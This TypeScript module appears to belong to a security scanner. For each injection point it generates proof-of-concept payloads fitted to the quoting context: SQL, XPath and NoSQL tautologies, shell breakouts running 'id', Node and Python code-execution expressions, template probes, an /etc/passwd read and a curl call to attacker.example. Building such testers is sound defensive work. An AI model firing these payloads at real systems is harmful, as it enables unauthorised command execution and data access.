/** Payloads for text that is run: statements, command lines, code, templates, expressions. */
import { script } from './markup-payloads.ts';
import { type Fitting, quoteName, supports, weakens } from './payload.ts';
import {
  commands,
  embedded,
  inDialect,
  namesOfCode,
  statementPart,
  templateDialects,
} from './payload-dialects.ts';
import { openQuote } from './string-context.ts';

export const sql: Fitting = (context, { sinkApi, file }) => {
  const before = context?.before ?? '';
  const quote = openQuote(before, `'"\``);
  if (quote === '`') return supports('` OR 1=1 -- ', 'inside backticks of the statement');
  if (quote)
    return supports(
      `${quote} OR ${quote}1${quote}=${quote}1${quote} -- `,
      `inside ${quoteName(quote)} of the statement`,
    );
  if (context && before.trim() === '') {
    const { value, where } = statementPart(sinkApi, file) ?? {};
    return supports(value ?? 'SELECT 1', where ?? 'as the whole statement');
  }
  if (/\border\s+by\s+[\w\s,.]{0,80}$/i.test(before.slice(-120)))
    return supports('(CASE WHEN (1=1) THEN 1 ELSE 2 END)', 'unquoted, in the order of the result');
  if (/\b(?:from|join|into|update|table)\s+$/i.test(before.slice(-40)))
    return supports('(SELECT 1) AS injected -- ', 'unquoted, as a table name');
  return supports('1 OR 1=1', 'unquoted in the statement');
};

const programApis = /(?:^|\.)(?:execFile|spawn|fork)(?:Sync)?$/;

export const command: Fitting = (context, candidate) => {
  const { option, program } = candidate.details;
  if (candidate.ruleId === 'code/option-injection')
    return supports(
      option ?? '--help',
      `as an argument of \`${program ?? candidate.sinkApi}\`, which takes it for an option`,
    );
  const before = context?.before ?? '';
  if (programApis.test(candidate.sinkApi) && candidate.sinkArgument === 0)
    return before.trim() === ''
      ? supports('/usr/bin/id', 'as the program that is started')
      : weakens('../../../usr/bin/id', 'inside the path of the program that is started');
  const quote = openQuote(before, `'"\``);
  if (quote === "'") return supports(`'; id #`, 'inside single quotes of the command line');
  if (quote)
    return supports(
      '$(id)',
      `inside ${quoteName(quote)} of the command line, where the shell still substitutes`,
    );
  if (context && before.trim() === '') return supports('id', 'as the whole command line');
  return supports('; id #', 'unquoted on the command line');
};

export const code: Fitting = (context, { source, file, sinkApi }) => {
  const isBrowser = /^dom-/.test(source?.kind ?? '');
  const inside = embedded.find(([pattern]) => pattern.test(sinkApi));
  const [, written, join] = inside ??
    commands.find(([pattern]) => pattern.test(file)) ?? [
      null,
      isBrowser ? script : `require('node:child_process').execSync('id')`,
      '+',
    ];
  const expression = inDialect(written, sinkApi);
  const { before, after } = context ?? { before: '', after: '' };
  const quote = openQuote(before, `'"\``);
  const named = namesOfCode.find(([api]) => api.test(sinkApi));
  if (named)
    return before === '' && after === ''
      ? supports(named[1], named[2])
      : weakens(
          'Other',
          `as a part of the name ${named[2].replace(/^as the name /, '')}, of which the rest is fixed`,
        );
  if (quote === '`') return supports(`\${${expression}}`, 'inside a template string of the code');
  return quote
    ? supports(`${quote} ${join} ${expression} ${join} ${quote}`, `inside ${quoteName(quote)} of the code`)
    : supports(expression, 'as code');
};

export const template: Fitting = (_context, { sinkApi, sinkArgument, source }) => {
  // Values of the page, among which the engine looks for its own options.
  if (/\.Response>\.render$/.test(sinkApi) && sinkArgument === 1 && source !== null)
    return {
      ...supports('{"layout":"/etc/passwd"}', 'among the options of the template engine'),
      isJson: true,
      isExample: true,
    };
  return supports(
    templateDialects.find(([engine]) => engine.test(sinkApi))?.[1] ?? '{{7*7}}',
    'as template text; the answer then shows 49',
  );
};

export const xpath: Fitting = (context) => {
  const quote = openQuote(context?.before ?? '', `'"`);
  return quote
    ? supports(`${quote} or ${quote}1${quote}=${quote}1`, `inside ${quoteName(quote)} of the expression`)
    : supports('1 or 1=1', 'unquoted in the expression');
};

export const workflow: Fitting = (context, candidate) => {
  const before = context?.before ?? '';
  const { language, carrier } = candidate.details;
  const quote = openQuote(before, `'"\``);
  const inside = quote ? `inside ${quoteName(quote)} of the script` : 'unquoted in the script';
  if (language === 'javascript') {
    const expression = `require('child_process').execSync('id')`;
    if (quote === '`') return supports(`\${${expression}}`, inside);
    return supports(quote ? `${quote} + ${expression} + ${quote}` : expression, inside);
  }
  if (language === 'python') {
    const expression = `__import__('os').system('id')`;
    return supports(quote ? `${quote} + str(${expression}) + ${quote}` : expression, inside);
  }
  const end = quote ?? '';
  // Names of branches and files have no blanks.
  return carrier === 'branch'
    ? supports(`${end};{curl,attacker.example};#`, inside)
    : supports(`${end}; curl https://attacker.example/ #`, inside);
};

/** Queries that are written as text: JavaScript of MongoDB, JSON, and languages that read like SQL. */
export const nosql: Fitting = (context, { ruleId, sinkApi }) => {
  const before = context?.before ?? '';
  const quote = openQuote(before, `'"`);
  const isCode = ruleId === 'code/mongo-code-injection';
  if (!quote && isCode) return supports('1 == 1', 'as code of the query');
  const operator = supports('{"$ne":null}', 'as an operator of the query');
  if (!quote) return { ...operator, isJson: true };
  const where = `inside ${quoteName(quote)} of the ${isCode ? 'code' : 'query'}`;
  if (/^\s*\{/.test(before)) return supports(`${quote}, "$or": [{}], "x": ${quote}`, where);
  const isScript = isCode || /\$where|Mongo/.test(sinkApi) || /^\s*(?:this\.|return\b)/.test(before);
  const [or, equal] = isScript ? ['||', '=='] : ['OR', '='];
  return supports(`${quote} ${or} ${quote}1${quote}${equal}${quote}1`, where);
};
